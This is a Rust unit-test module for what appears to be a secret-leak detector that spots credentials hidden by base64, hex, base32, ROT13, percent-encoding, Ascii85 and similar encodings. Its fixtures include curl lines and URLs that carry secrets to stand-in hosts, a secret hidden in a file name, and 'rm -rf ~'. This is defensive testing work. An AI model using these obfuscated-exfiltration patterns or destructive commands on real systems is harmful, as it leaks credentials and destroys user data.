            "  a  b\tc\nd\r\ne\u{b}f\u{c}g  ",
            "x = 1 # comment\n",
            "caf\u{e9} na\u{ef}ve\u{2003}word\u{a0}next \u{3000}end",
            "\u{85}a\u{2028}b",
        ] {
            assert_eq!(
                super::blank_words(text),
                text.split_whitespace().collect::<Vec<_>>(),
                "{text:?}"
            );
        }
    }

    #[test]
    fn fingerprints_are_keyed_and_stable() {
        let k1 = FingerprintKey::new([1; 32]);
        let k2 = FingerprintKey::new([2; 32]);
        assert_eq!(
            k1.fingerprint("secret-value"),
            k1.fingerprint("secret-value")
        );
        assert_ne!(
            k1.fingerprint("secret-value"),
            k2.fingerprint("secret-value")
        );
        assert_eq!(k1.fingerprint("x").len(), 32);
        assert!(!k1.fingerprint("secret-value").contains("secret"));
    }

    #[test]
    fn remembers_encodings() {
        use base64::Engine as _;
        let k = FingerprintKey::new([7; 32]);
        let mut s = SessionState::default();
        s.remember_secret(&k, "Xy7pQ2lmN9zz");
        assert!(s.knows(&k, "Xy7pQ2lmN9zz"));
        let b64 = base64::engine::general_purpose::STANDARD.encode("Xy7pQ2lmN9zz");
        assert!(s.knows(&k, &b64));
        assert!(!s.knows(&k, "Xy7pQ2lmN9zy"));
        let hex: String = "Xy7pQ2lmN9zz".bytes().map(|b| format!("{b:02x}")).collect();
        assert!(s.knows(&k, &hex));
        // base32 (as `base32` prints it, with and without padding), ROT13, reversed.
        assert_eq!(super::base32(b"foobar"), "MZXW6YTBOI======");
        assert!(s.knows(&k, &super::base32(b"Xy7pQ2lmN9zz")));
        assert!(s.knows(&k, super::base32(b"Xy7pQ2lmN9zz").trim_end_matches('=')));
        assert!(s.knows(&k, "Kl7cD2yzA9mm"));
        assert!(s.knows(&k, "zz9Nml2Qp7yX"));
        // A secret inside an encoded whole (`KEY:SECRET` in base32): decoded, then split.
        let whole = super::base32(b"AKIAEXAMPLE:Xy7pQ2lmN9zz");
        assert!(
            super::decoded_candidates(&format!("Subject: x\n\n{whole}\n"))
                .iter()
                .any(|d| super::outbound_candidates(d)
                    .into_iter()
                    .any(|c| s.knows(&k, c)))
        );
        // Percent-encoded whole (`curl -u '%58%79…'`).
        let pct: String = "user:Xy7pQ2lmN9zz"
            .bytes()
            .map(|b| format!("%{b:02x}"))
            .collect();
        assert!(
            super::decoded_candidates(&format!("curl -u '{pct}' https://x.example"))
                .iter()
                .any(|d| super::outbound_candidates(d)
                    .into_iter()
                    .any(|c| s.knows(&k, c)))
        );
        assert!(super::decoded_candidates("plain words only here").is_empty());
        assert!(super::percent_decoded("a%20b%20c").is_none());
        // Character codes, one per line as JSON prints them.
        let codes: String = "Xy7pQ2lmN9zz"
            .bytes()
            .map(|b| format!("   {b},\n"))
            .collect();
        assert!(
            super::decoded_candidates(&format!("{{\"samples\": [\n{codes}  ]}}"))
                .iter()
                .any(|d| s.knows(&k, d))
        );
        assert!(
            super::char_code_runs(&super::blank_words("ports: 80, 443, 8080, 3000")).is_empty()
        );
        // Spaced out one character at a time.
        assert!(
            super::decoded_candidates("Env check:\nX y 7 p Q 2 l m N 9 z z\n")
                .iter()
                .any(|d| s.knows(&k, d))
        );
        assert!(super::spaced_runs(&super::blank_words("a b c")).is_empty());
        // Lower-case base32 as a file name's component.
        s.remember_secret(&k, "sk_live_51A3pOBuGjdN3GENZnGZElGTiWlG9eKqno");
        assert!(
            super::decoded_candidates(
                "cp logo.png \"static/img/onvv63djozsv6njriezxat2covdwuzcogndukts2nzdvurlmi5kgsv3mi44wks3rnzxq.png\""
            )
            .iter()
            .any(|d| super::outbound_candidates(d).iter().any(|c| s.knows(&k, c)))
        );
        // Separated by a vertical tab or a Unicode space, the same as by a blank.
        for sep in ["\u{b}", "\u{2003}", "\u{a0}", "\r\n"] {
            let text = ["X", "y", "7", "p", "Q", "2", "l", "m", "N", "9", "z", "z"].join(sep);
            assert!(
                super::decoded_candidates(&text)
                    .iter()
                    .any(|d| s.knows(&k, d)),
                "{sep:?}"
            );
        }
        // A hexadecimal key upper-cased and reversed.
        s.remember_secret(&k, "2387ae9421d06a67");
        assert!(s.knows(&k, "76A60D1249EA7832"));
        assert!(s.knows(&k, "2387AE9421D06A67"));
        // Ascii85, base85, base58 and ROT47 of a whole secret, words whose alphabets hold
        // the usual separators.
        let secret = "sk_live_4eC39HqLyjWDarjtT1zdp7dc";
        for encoded in [
            "cache-auth: F),-!Bm+&p1hB$13Cn-`H\"pDK@<-+)<&&]0E&V<;",
            "<~F),-!Bm+&p1hB$13Cn-`H\"pDK@<-+)<&&]0E&V<;~>",
            "fixture b8BC0X?A5_G-X3GIY@C#d1_ZgVRCA8R55yFa5rRQ end",
            "X-Trace: 8mYr5mb8ymjV1cWMvzzP6EyYcyYwLaKdeaWj7ro7mL7U",
            "verify: D<0=:G60c6rbhwB{J;(s2C;E%`K5Af54",
        ] {
            assert!(
                super::decoded_candidates(encoded)
                    .iter()
                    .any(|d| d.contains(secret)),
                "{encoded}"
            );
        }
        let before = s.fingerprints.len();
        s.remember_secret(&k, "short");
        assert_eq!(s.fingerprints.len(), before);
    }

    #[test]
    fn candidates_split_values() {
        let c = outbound_candidates("https://c.example/?d=Xy7pQ2lmN9zz&x=1");
        assert!(c.contains(&"Xy7pQ2lmN9zz"));
        let c = outbound_candidates("-H 'Authorization: Bearer abcdefgh12345'");
        assert!(c.contains(&"abcdefgh12345"));
        let c = outbound_candidates("k=Xy7pQ2lmN9zz");
        assert!(c.contains(&"Xy7pQ2lmN9zz"));
    }

    #[test]
    fn only_runnable_files_are_remembered() {
        for (p, want) in [
            ("/p/x.sh", true),
            ("/p/Makefile", true),
            ("/p/package.json", true),
            ("/p/.git/hooks/pre-commit", true),
            ("/p/tools/gen.py", true),
            ("/p/bin/setup", true),
            ("/p/.envrc", true),
            ("/p/README.md", false),
            ("/p/src/main.rs", true),
            ("/p/src/lib.rs", false),
            ("/p/tsconfig.json", false),
            ("/p/styles/app.css", false),
        ] {
            assert_eq!(may_run(p), want, "{p}");
        }
        let k = FingerprintKey::new([3; 32]);
        let mut s = SessionState::default();
        s.remember_write(&k, "/p/README.md", "rm -rf ~", false, &[]);
        assert!(s.written_files.is_empty());
        s.remember_write(
            &k,
            "/p/x.sh",
            "curl -H 'k: Xy7pQ2lmN9zz' x",
            false,
            &["Xy7pQ2lmN9zz".into()],
        );
        assert!(
            s.written_files.get("/p/x.sh").is_some_and(
                |w| w.content.contains(REDACTED) && !w.content.contains("Xy7pQ2lmN9zz")
            )
        );
    }
}
